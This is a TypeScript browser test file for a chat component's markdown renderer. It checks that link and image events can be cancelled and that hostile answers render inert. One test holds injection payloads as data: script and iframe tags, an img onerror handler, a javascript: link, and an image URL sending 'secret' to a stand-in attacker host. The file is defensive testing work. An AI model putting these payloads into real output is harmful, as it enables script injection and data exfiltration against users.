import {sendMouse} from '@web/test-runner-commands';
import {expect} from 'chai';
import type {ChatImageEvent, ChatLinkEvent} from '../../src/markdown/index.js';
import {until} from '../support/scripted-wire.js';
import {MountedChat} from './mounted-chat.js';

/** Presses the middle of `element` as a person does: what consents must be a real press. */
async function press(element: Element): Promise<void> {
  const {left, top, width, height} = element.getBoundingClientRect();
  await sendMouse({type: 'click', position: [Math.round(left + width / 2), Math.round(top + height / 2)]});
}

describe('consent', () => {
  async function answered(text: string, selector: string): Promise<[MountedChat, Element]> {
    const chat = await MountedChat.mount();
    await chat.ask('Why?');
    chat.wire.answer.start().chunk(text);
    await chat.finish();
    const find = (): Element | null | undefined => chat.lastRow.shadowRoot?.querySelector(selector);
    await until(() => find() instanceof Element, `${selector} is there`);
    return [chat, find() as Element];
  }

  it('tells the page of a link before it opens, in its own name; cancelled, nothing opens', async () => {
    const [chat, link] = await answered('See [this](https://example.com/a?b=c).', '.markdown a');
    const heard: Event[] = [];
    chat.element.addEventListener('chat-link', (event) => {
      heard.push(event);
      event.preventDefault();
    });
    const clicks: boolean[] = [];
    document.addEventListener('click', (event) => clicks.push(event.defaultPrevented), {once: true});
    await press(link);
    await until(() => clicks.length === 1, 'the link was pressed');
    expect(clicks).to.deep.equal([true]);
    expect(heard.map((event) => (event as ChatLinkEvent).url)).to.deep.equal(['https://example.com/a?b=c']);
    expect(heard[0]?.eventPhase).to.equal(Event.NONE);
  });

  it('tells the page once of an image before it loads; cancelled, nothing loads', async () => {
    const [chat, button] = await answered('![A gnome](https://example.com/gnome.png)', '.markdown button');
    const heard: Event[] = [];
    chat.box.addEventListener('chat-image', (event) => {
      heard.push(event);
      event.preventDefault();
    });
    await press(button);
    await until(() => heard.length > 0, 'the page was told');
    expect(heard.map((event) => (event as ChatImageEvent).url)).to.deep.equal([
      'https://example.com/gnome.png',
    ]);
    expect(heard.every(({target}) => target === chat.element)).to.equal(true);
    expect(chat.lastRow.shadowRoot?.querySelector('img') === null).to.equal(true);
  });

  it('draws an answer of script, frame, image and javascript: link without any of them', async () => {
    const hostile =
      '<script>window.pwned = 1</script>\n\n<iframe src="/pwned"></iframe>\n\n<img src=x onerror="window.pwned = 1">\n\n' +
      '![x](https://evil.example/?q=secret) [y](javascript:window.pwned=1)\n\nDone.';
    const [chat] = await answered(hostile, '.markdown p');
    await chat.hear('Done.');
    const root = chat.lastRow.shadowRoot;
    expect(root?.querySelectorAll('script, iframe, img, a').length).to.equal(0);
    expect((globalThis as {pwned?: number}).pwned).to.equal(undefined);
  });
});
